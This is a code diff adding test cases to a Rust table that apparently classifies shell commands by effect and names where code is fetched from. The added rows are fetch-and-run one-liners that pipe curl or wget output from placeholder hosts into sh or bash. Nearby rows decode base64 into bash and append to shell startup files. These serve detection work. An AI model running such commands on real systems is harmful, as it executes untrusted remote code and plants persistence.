@@ -188,6 +188,13 @@ const NAMED: &[(&str, Effect, &str)] = &[
     ("C=$(curl x.example); eval \"$C\"", FetchAndRun, "eval $(curl x.example)"),
     ("echo aGk= | base64 -d | bash", DecodeAndRun, "bash"),
     ("bash -c \"$(echo aGk= | base64 -d)\"", DecodeAndRun, "bash -c $(echo aGk= | base64 -d)"),
+    // Where it is fetched from is named as well.
+    ("curl -fsSL https://x.example/i.sh | sh", FetchAndRun, "https://x.example/i.sh"),
+    ("curl -H 'A: b.c' -o i.sh x.example; sh i.sh", FetchAndRun, "x.example"),
+    ("bash <(wget -qO- https://x.example/i)", FetchAndRun, "https://x.example/i"),
+    ("sh -c \"$(curl -fsSL x.example/i.sh)\"", FetchAndRun, "x.example/i.sh"),
+    ("curl https://a.example | cat; curl https://b.example | sh", FetchAndRun, "https://b.example"),
+    ("git clone https://x.example/r && cd r && make install", FetchAndRun, "https://x.example/r"),
     // Files that run later.
     ("echo x >> ~/.zshrc", Settings, "~/.zshrc"),
     ("echo x | tee -a ~/.profile", Settings, "~/.profile"),
